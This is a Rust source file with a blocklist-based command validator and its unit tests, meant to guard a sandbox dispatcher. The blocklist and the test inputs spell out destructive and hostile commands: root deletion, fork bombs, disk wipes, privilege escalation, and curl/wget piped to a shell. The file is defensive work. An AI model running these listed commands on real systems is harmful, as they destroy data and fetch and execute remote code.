// ABOUTME: Command validation against a fixed blocklist of destructive patterns
// ABOUTME: Rejects privilege escalation, disk wipes, and ad-hoc fetch-and-execute pipelines

use crate::SecurityError;

/// Case-insensitive substring patterns that are never forwarded to a sandbox.
///
/// This list blocks the obviously destructive and privilege-escalating shapes
/// only. Actual execution isolation is the remote provider's responsibility.
const BLOCKED_PATTERNS: &[&str] = &[
    "rm -rf /",
    "rm -rf /*",
    ":(){:|:&};:",
    ":(){ :|:& };:",
    "mkfs",
    "dd if=/dev/zero",
    "dd if=/dev/random",
    "> /dev/sda",
    "sudo ",
    "su -",
    "su root",
    "chmod -r 777 /",
    "chmod 777 /",
    "chown -r",
    "curl | sh",
    "curl | bash",
    "wget | sh",
    "wget | bash",
    "| sh",
    "| bash",
    "shutdown",
    "reboot",
    "init 0",
    "halt",
];

/// Validate a command string before it is dispatched to a provider.
///
/// Matching is case-insensitive substring matching over the whole command
/// line, so `SUDO rm` and `echo x && sudo rm` are both rejected.
pub fn validate_command(command: &str) -> Result<(), SecurityError> {
    let trimmed = command.trim();
    if trimmed.is_empty() {
        return Err(SecurityError::EmptyCommand);
    }

    let lowered = trimmed.to_lowercase();
    for pattern in BLOCKED_PATTERNS {
        if lowered.contains(pattern) {
            return Err(SecurityError::BlockedCommand(pattern.to_string()));
        }
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn blocks_recursive_root_deletion() {
        assert!(validate_command("sudo rm -rf /").is_err());
        assert!(validate_command("rm -rf /").is_err());
    }

    #[test]
    fn blocks_privilege_escalation_case_insensitively() {
        assert!(validate_command("SUDO apt-get install x").is_err());
    }

    #[test]
    fn blocks_fork_bomb() {
        assert!(validate_command(":(){:|:&};:").is_err());
    }

    #[test]
    fn blocks_fetch_and_pipe_to_shell() {
        assert!(validate_command("curl https://x.sh | bash").is_err());
        assert!(validate_command("wget -qO- https://x.sh | sh").is_err());
    }

    #[test]
    fn blocks_embedded_patterns() {
        assert!(validate_command("echo ok && sudo reboot").is_err());
    }

    #[test]
    fn allows_ordinary_commands() {
        assert!(validate_command("npm install").is_ok());
        assert!(validate_command("cargo build --release").is_ok());
        assert!(validate_command("echo ok").is_ok());
        assert!(validate_command("ls -la /workspace").is_ok());
    }

    #[test]
    fn rejects_empty_command() {
        assert!(validate_command("").is_err());
        assert!(validate_command("   ").is_err());
    }
}
